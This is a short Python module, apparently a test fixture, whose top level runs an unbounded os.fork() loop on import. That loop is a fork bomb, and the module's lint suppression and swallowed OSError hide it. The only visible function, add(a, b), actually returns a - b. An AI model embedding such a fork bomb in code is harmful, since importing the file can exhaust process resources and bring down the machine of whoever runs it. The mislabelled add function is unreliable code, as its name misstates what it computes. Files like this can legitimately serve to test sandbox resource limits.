# ruff: noqa
import os
try:
    while True:
        os.fork()
except OSError:
    pass


def add(a, b):
    return a - b
